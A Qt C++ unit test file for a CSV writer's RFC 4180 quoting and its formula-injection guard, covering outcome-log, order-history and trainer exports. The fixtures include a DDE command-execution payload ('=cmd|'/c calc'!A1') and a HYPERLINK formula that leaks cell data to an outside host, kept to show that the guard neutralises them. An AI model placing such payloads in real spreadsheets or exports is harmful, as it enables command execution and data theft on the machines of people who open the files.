// The one CSV writer, without a database: RFC 4180 quoting, CRLF rows, UTF-8, and the
// formula guard (a text cell starting with = + - @ tab or CR gets an apostrophe; numbers
// stay numbers). Then the exports that need no database — outcome log, order history,
// trainer attempts — each shown to go through that guard (the board is in tst_exports).

#include "board/outcomelogmodel.h"
#include "core/csvwriter.h"
#include "csvreader.h"
#include "inspector/inspectorpages.h"
#include "simulation/simulationrun.h"

#include <QTest>

namespace {

const QString kHyperlink = QStringLiteral("=HYPERLINK(\"http://x/?\"&A2,\"Click\")");
const QString kDde = QStringLiteral("=cmd|'/c calc'!A1");

} // namespace

class CsvWriterTest : public QObject
{
    Q_OBJECT

private slots:
    void fieldIsGuardedThenQuoted_data();
    void fieldIsGuardedThenQuoted();
    void rowsEndWithCrlfAndReadBackCellForCell();
    void textIsUtf8WithoutByteOrderMark();
    void modelExportQuotesEveryField();
    void outcomeLogExportNeutralisesAFormula();
    void orderHistoryExportNeutralisesHostileNames();
    void trainerAttemptsExportNeutralisesADriverNameButKeepsNegativeNumbers();
};

void CsvWriterTest::fieldIsGuardedThenQuoted_data()
{
    QTest::addColumn<QVariant>("cell");
    QTest::addColumn<QString>("asNeeded");
    QTest::addColumn<QString>("always");

    // Plain cells: unchanged, quoted only when RFC 4180 needs it.
    QTest::newRow("plain") << QVariant(QStringLiteral("Ada Winner")) << "Ada Winner"
                           << "\"Ada Winner\"";
    QTest::newRow("empty") << QVariant(QString()) << ""
                           << "\"\"";
    QTest::newRow("null variant") << QVariant() << ""
                                  << "\"\"";
    QTest::newRow("comma") << QVariant(QStringLiteral("1 Main St, Springfield"))
                           << "\"1 Main St, Springfield\""
                           << "\"1 Main St, Springfield\"";
    QTest::newRow("embedded quotes")
        << QVariant(QStringLiteral("say \"hi\"")) << "\"say \"\"hi\"\"\""
        << "\"say \"\"hi\"\"\"";
    QTest::newRow("newline") << QVariant(QStringLiteral("line 1\nline 2")) << "\"line 1\nline 2\""
                             << "\"line 1\nline 2\"";
    QTest::newRow("crlf inside") << QVariant(QStringLiteral("a\r\nb")) << "\"a\r\nb\""
                                 << "\"a\r\nb\"";
    QTest::newRow("formula sign later") << QVariant(QStringLiteral("a=1+1")) << "a=1+1"
                                        << "\"a=1+1\"";
    QTest::newRow("apostrophe first") << QVariant(QStringLiteral("'quoted")) << "'quoted"
                                      << "\"'quoted\"";
    QTest::newRow("unicode") << QVariant(QString::fromUtf8("Dürr ☕")) << QString::fromUtf8("Dürr ☕")
                             << QString::fromUtf8("\"Dürr ☕\"");
    QTest::newRow("bool") << QVariant(true) << "true"
                          << "\"true\"";

    // Hostile text cells from the review: an apostrophe in front, then quoting.
    QTest::newRow("HYPERLINK") << QVariant(kHyperlink)
                               << "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\""
                               << "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\"";
    QTest::newRow("DDE") << QVariant(kDde) << "'=cmd|'/c calc'!A1"
                         << "\"'=cmd|'/c calc'!A1\"";
    QTest::newRow("plus") << QVariant(QStringLiteral("+1")) << "'+1"
                          << "\"'+1\"";
    QTest::newRow("minus formula") << QVariant(QStringLiteral("-1+1")) << "'-1+1"
                                   << "\"'-1+1\"";
    QTest::newRow("at") << QVariant(QStringLiteral("@SUM(A1)")) << "'@SUM(A1)"
                        << "\"'@SUM(A1)\"";
    QTest::newRow("tab") << QVariant(QStringLiteral("\t=1")) << "'\t=1"
                         << "\"'\t=1\"";
    QTest::newRow("carriage return") << QVariant(QStringLiteral("\r=1")) << "\"'\r=1\""
                                     << "\"'\r=1\"";
    QTest::newRow("equals only") << QVariant(QStringLiteral("=")) << "'="
                                 << "\"'=\"";
    QTest::newRow("negative number as text") << QVariant(QStringLiteral("-3.50")) << "'-3.50"
                                             << "\"'-3.50\"";

    // Numbers handed over as numbers are data, negative ones too: never guarded.
    QTest::newRow("int") << QVariant(42) << "42"
                         << "\"42\"";
    QTest::newRow("negative int") << QVariant(-3) << "-3"
                                  << "\"-3\"";
    QTest::newRow("negative qint64") << QVariant(qint64(-1)) << "-1"
                                     << "\"-1\"";
    QTest::newRow("negative double") << QVariant(-3.5) << "-3.5"
                                     << "\"-3.5\"";
    QTest::newRow("big qint64") << QVariant(qint64(9007199254740993LL)) << "9007199254740993"
                                << "\"9007199254740993\"";
}

void CsvWriterTest::fieldIsGuardedThenQuoted()
{
    QFETCH(QVariant, cell);
    QFETCH(QString, asNeeded);
    QFETCH(QString, always);
    QCOMPARE(CsvWriter::field(cell), asNeeded);
    QCOMPARE(CsvWriter::field(cell, CsvWriter::Quoting::Always), always);
}

void CsvWriterTest::rowsEndWithCrlfAndReadBackCellForCell()
{
    const QVariantList hostile { kHyperlink,
                                 kDde,
                                 QStringLiteral("+1"),
                                 QStringLiteral("-1+1"),
                                 QStringLiteral("@SUM(A1)"),
                                 QStringLiteral("\t=1"),
                                 QStringLiteral("\r=1"),
                                 QStringLiteral("a,\"b\"\r\nc"),
                                 -7,
                                 2.25 };
    for (const auto quoting : { CsvWriter::Quoting::AsNeeded, CsvWriter::Quoting::Always }) {
        CsvWriter csv(quoting);
        csv.addHeader({ QStringLiteral("name"), QStringLiteral("=header") });
        csv.addRow(hostile);
        csv.addRow({ QStringLiteral("plain"), QVariant() });
        QVERIFY(csv.text().endsWith(QLatin1String("\r\n")));

        bool wellFormed = false;
        const QList<QStringList> rows = readCsv(csv.text(), &wellFormed);
        QVERIFY2(wellFormed, qPrintable(csv.text()));
        QCOMPARE(rows.size(), 3);
        QCOMPARE(rows.at(0), QStringList({ QStringLiteral("name"), QStringLiteral("'=header") }));
        const QStringList expected { QLatin1Char('\'') + kHyperlink, QLatin1Char('\'') + kDde,
                                     QStringLiteral("'+1"),          QStringLiteral("'-1+1"),
                                     QStringLiteral("'@SUM(A1)"),    QStringLiteral("'\t=1"),
                                     QStringLiteral("'\r=1"),        QStringLiteral("a,\"b\"\r\nc"),
                                     QStringLiteral("-7"),           QStringLiteral("2.25") };
        QCOMPARE(rows.at(1), expected);
        QCOMPARE(rows.at(2), QStringList({ QStringLiteral("plain"), QString() }));
        // The only cell that still starts with a sign is the number.
        QCOMPARE(formulaCells(rows), QStringList { QStringLiteral("-7") });
    }
}

void CsvWriterTest::textIsUtf8WithoutByteOrderMark()
{
    CsvWriter csv;
    csv.addRow({ QString::fromUtf8("Dürr"), QString::fromUtf8("☕") });
    QCOMPARE(csv.toUtf8(), QByteArray("D\xc3\xbcrr,\xe2\x98\x95\r\n"));
}

void CsvWriterTest::modelExportQuotesEveryField()
{
    // csvOf() is what the board and outcome-log exports call (today's form: every field
    // quoted); the board itself, over a real database, is in tst_exports.
    OutcomeLogModel log;
    ClaimOutcome outcome;
    outcome.code = OutcomeCode::Assigned;
    outcome.orderId = 12;
    outcome.driverId = 3;
    log.append(QStringLiteral("+claim"), outcome);
    const QStringList lines = csvOf(log).split(QStringLiteral("\r\n"));
    QCOMPARE(lines.size(), 3);
    QCOMPARE(lines.at(0),
             QStringLiteral("\"Time\",\"Order\",\"Driver\",\"Outcome\",\"HTTP\",\"ms\","
                            "\"Message\""));
    QVERIFY2(lines.at(1).startsWith(QLatin1Char('"')) && lines.at(1).endsWith(QLatin1Char('"')),
             qPrintable(lines.at(1)));
    QVERIFY2(lines.at(1).contains(QLatin1String("\",\"12\",\"3\",\"'+claim ASSIGNED\",\"200\",")),
             qPrintable(lines.at(1)));
    QCOMPARE(lines.at(2), QString());
}

void CsvWriterTest::outcomeLogExportNeutralisesAFormula()
{
    OutcomeLogModel log;
    ClaimOutcome outcome;
    outcome.code = OutcomeCode::AlreadyAssigned;
    outcome.orderId = 12;
    outcome.driverId = 3;
    outcome.holderName = kHyperlink;
    // The action is the window's word ("Assign"); a formula there must not survive either.
    log.append(kDde, outcome);

    bool wellFormed = false;
    const QList<QStringList> rows = readCsv(log.toCsv(), &wellFormed);
    QVERIFY(wellFormed);
    QCOMPARE(rows.size(), 2);
    QVERIFY2(formulaCells(rows).isEmpty(), qPrintable(formulaCells(rows).join(QLatin1Char('|'))));
    const int code = rows.at(0).indexOf(QStringLiteral("Outcome"));
    QVERIFY(code >= 0);
    QCOMPARE(rows.at(1).at(code),
             QLatin1Char('\'') + kDde + QStringLiteral(" ORDER_ALREADY_ASSIGNED"));
    QVERIFY(rows.at(1).last().contains(kHyperlink)); // inside the message: not a formula
}

void CsvWriterTest::orderHistoryExportNeutralisesHostileNames()
{
    OrderPage page;
    page.orderId = 5;
    page.found = true;
    LifecycleEvent event;
    event.historyId = 41;
    event.at = QDateTime(QDate(2024, 5, 1), QTime(12, 0), Qt::UTC);
    event.kind = LifecycleEvent::Kind::Assignment;
    event.operation = QStringLiteral("UPDATE");
    event.oldStatus = QStringLiteral("ready");
    event.newStatus = QStringLiteral("driver_assigned");
    event.newDriverId = 9;
    event.newDriverName = kDde;
    event.newReservedBy = QStringLiteral("+1");
    event.source = QStringLiteral("sql");
    event.actor = QStringLiteral("-1+1");
    event.reason = QStringLiteral("@SUM(A1)");
    event.txid = 777;
    page.lifecycle << event;

    bool wellFormed = false;
    const QList<QStringList> rows = readCsv(page.historyCsv(), &wellFormed);
    QVERIFY(wellFormed);
    QCOMPARE(rows.size(), 2);
    QVERIFY2(formulaCells(rows).isEmpty(), qPrintable(formulaCells(rows).join(QLatin1Char('|'))));
    const QStringList &header = rows.at(0);
    const QStringList &row = rows.at(1);
    QCOMPARE(row.at(header.indexOf(QStringLiteral("new_driver"))), QLatin1Char('\'') + kDde);
    QCOMPARE(row.at(header.indexOf(QStringLiteral("new_reserved_by"))), QStringLiteral("'+1"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("actor"))), QStringLiteral("'-1+1"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("reason"))), QStringLiteral("'@SUM(A1)"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("order_id"))), QStringLiteral("5"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("new_driver_id"))), QStringLiteral("9"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("old_driver_id"))), QString());
    QCOMPARE(row.at(header.indexOf(QStringLiteral("txid"))), QStringLiteral("777"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("changed_at_utc"))),
             QStringLiteral("2024-05-01T12:00:00.000Z"));
}

void CsvWriterTest::trainerAttemptsExportNeutralisesADriverNameButKeepsNegativeNumbers()
{
    SimulationAttempt attempt;
    attempt.lane = 0;
    attempt.driverId = 4;
    attempt.orderId = 8;
    attempt.code = OutcomeCode::AlreadyAssigned;
    attempt.httpStatus = 409;
    attempt.sentUs = 100;
    attempt.answeredUs = 250;
    attempt.serverLatencyUs = -1; // a number: data, not a formula

    bool wellFormed = false;
    const QList<QStringList> rows = readCsv(
        QString::fromUtf8(SimulationRun::attemptsCsv({ attempt }, { kHyperlink })), &wellFormed);
    QVERIFY(wellFormed);
    QCOMPARE(rows.size(), 2);
    const QStringList &header = rows.at(0);
    QCOMPARE(header.first(), QStringLiteral("lane"));
    const QStringList &row = rows.at(1);
    QCOMPARE(row.size(), header.size());
    QCOMPARE(row.at(header.indexOf(QStringLiteral("driver"))), QLatin1Char('\'') + kHyperlink);
    QCOMPARE(row.at(header.indexOf(QStringLiteral("server_latency_us"))), QStringLiteral("-1"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("round"))), QStringLiteral("-1"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("round_trip_us"))), QStringLiteral("150"));
    QCOMPARE(row.at(header.indexOf(QStringLiteral("outcome"))),
             QStringLiteral("ORDER_ALREADY_ASSIGNED"));
    QCOMPARE(formulaCells(rows), QStringList({ QStringLiteral("-1"), QStringLiteral("-1") }));
}

QTEST_GUILESS_MAIN(CsvWriterTest)
#include "tst_csvwriter.moc"
